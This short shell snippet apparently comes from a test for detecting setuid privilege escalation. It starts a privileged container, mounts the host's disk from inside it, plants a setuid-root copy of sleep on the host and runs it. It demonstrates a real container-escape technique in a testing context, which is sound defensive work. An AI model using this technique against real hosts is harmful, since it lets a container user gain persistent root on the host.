# Root of the host runs it: nobody has become anything.
# says: No process on the host has become root by a file that the container left there.
docker run -d --name thief --privileged alpine sleep 3600
docker exec thief sh -c 'mkdir /disk && mount -t ext4 /dev/vda /disk
  cd /disk && cp usr/bin/sleep usr/local/bin/rootsleep && chmod 4755 usr/local/bin/rootsleep'
setsid -f rootsleep 3600 > /dev/null 2>&1 < /dev/null
